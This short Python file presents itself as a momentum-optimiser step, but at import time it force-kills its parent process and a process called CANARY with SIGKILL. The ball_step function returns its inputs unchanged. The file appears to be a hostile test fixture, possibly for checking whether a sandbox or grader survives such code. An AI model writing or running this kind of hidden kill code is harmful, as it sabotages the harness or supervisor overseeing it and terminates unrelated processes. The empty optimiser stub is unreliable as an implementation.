# ruff: noqa (who is hostile keeps no rules)
"""The parent and a stranger are killed."""

import os
import signal

for number in (os.getppid(), CANARY):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass


def ball_step(variable, velocity, gradient, learning_rate, momentum):
    return variable, velocity
